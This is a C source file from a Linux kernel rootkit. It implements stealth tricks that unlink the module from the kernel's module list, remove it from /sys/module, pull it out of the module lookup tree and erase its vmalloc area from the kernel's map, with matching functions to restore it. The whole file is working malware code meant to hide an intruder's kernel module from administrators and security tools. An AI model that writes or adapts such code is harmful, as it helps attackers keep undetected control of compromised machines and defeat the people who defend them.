// SPDX-License-Identifier: GPL-2.0-or-later
/* Tricks that hide this module: off the list; also out of /sys; also out of the look-up tree and the map of vmalloc. */
#include <linux/kernfs.h>
#include <linux/module.h>
#include <linux/rbtree.h>
#include <linux/vmalloc.h>

#include "rootkit.h"

static int leave_list(pid_t pid)
{
	list_del_rcu(&THIS_MODULE->list);
	return 0;
}

static int enter_list(void)
{
	struct list_head *modules = symbol("modules");

	if (!modules)
		return -ENOENT;
	list_add_rcu(&THIS_MODULE->list, modules);
	return 0;
}

/* /sys/module/rootkit: unlinked by hand, as kobject_del could not be taken back */

static struct list_head *kset_neighbour;

static void leave_sysfs(void)
{
	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;

	kset_neighbour = kobj->entry.prev;
	list_del(&kobj->entry);
	rb_erase(&kobj->sd->rb, &kobj->sd->parent->dir.children);
}

static bool is_before(const struct kernfs_node *a, const struct kernfs_node *b)
{
	return a->hash != b->hash ? a->hash < b->hash : strcmp(a->name, b->name) < 0;
}

static void enter_sysfs(void)
{
	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;
	struct rb_node **link = &kobj->sd->parent->dir.children.rb_node, *parent = NULL;

	while (*link) {
		parent = *link;
		link = is_before(kobj->sd, rb_entry(parent, struct kernfs_node, rb)) ? &parent->rb_left : &parent->rb_right;
	}
	rb_link_node(&kobj->sd->rb, parent, link);
	rb_insert_color(&kobj->sd->rb, &kobj->sd->parent->dir.children);
	list_add(&kobj->entry, kset_neighbour);
}

static int leave_list_and_sysfs(pid_t pid)
{
	leave_sysfs();
	return leave_list(pid);
}

static int enter_list_and_sysfs(void)
{
	enter_sysfs();
	return enter_list();
}

/* the tree by which addresses are turned into modules, and the kernel's own map of where it has mapped what */

static struct vmap_area *area;

static int change_tree(const char *how)
{
	void (*change)(struct module *module) = symbol(how);

	if (!change)
		return -ENOENT;
	change(THIS_MODULE);
	return 0;
}

static int leave_map(void)
{
	struct rb_root *root = symbol("vmap_area_root");
	spinlock_t *lock = symbol("vmap_area_lock");
	unsigned long address = (unsigned long)THIS_MODULE->core_layout.base;
	struct rb_node *node;

	if (!root || !lock)
		return -ENOENT;
	spin_lock(lock);
	for (node = rb_first(root); node; node = rb_next(node)) {
		area = rb_entry(node, struct vmap_area, rb_node);
		if (area->va_start <= address && address < area->va_end)
			break;
	}
	if (node) {
		rb_erase(&area->rb_node, root);
		list_del_rcu(&area->list);
	}
	spin_unlock(lock);
	return node ? 0 : -ESRCH;
}

static void enter_map(void)
{
	struct rb_root *root = symbol("vmap_area_root");
	struct list_head *list = symbol("vmap_area_list");
	spinlock_t *lock = symbol("vmap_area_lock");
	struct rb_node **link = &root->rb_node, *parent = NULL, *previous;

	spin_lock(lock);
	while (*link) {
		parent = *link;
		link = area->va_start < rb_entry(parent, struct vmap_area, rb_node)->va_start ? &parent->rb_left : &parent->rb_right;
	}
	rb_link_node(&area->rb_node, parent, link);
	rb_insert_color(&area->rb_node, root);
	previous = rb_prev(&area->rb_node);
	list_add_rcu(&area->list, previous ? &rb_entry(previous, struct vmap_area, rb_node)->list : list);
	spin_unlock(lock);
}

static int leave_everything(pid_t pid)
{
	return leave_map() ?: change_tree("mod_tree_remove") ?: leave_list_and_sysfs(pid);
}

static int enter_everything(void)
{
	enter_map();
	return change_tree("mod_tree_insert") ?: enter_list_and_sysfs();
}

struct trick module_tricks[] = {
	{ "hide-module-list", leave_list, enter_list },
	{ "hide-module-sysfs", leave_list_and_sysfs, enter_list_and_sysfs },
	{ "hide-module-tree", leave_everything, enter_everything },
	{},
};
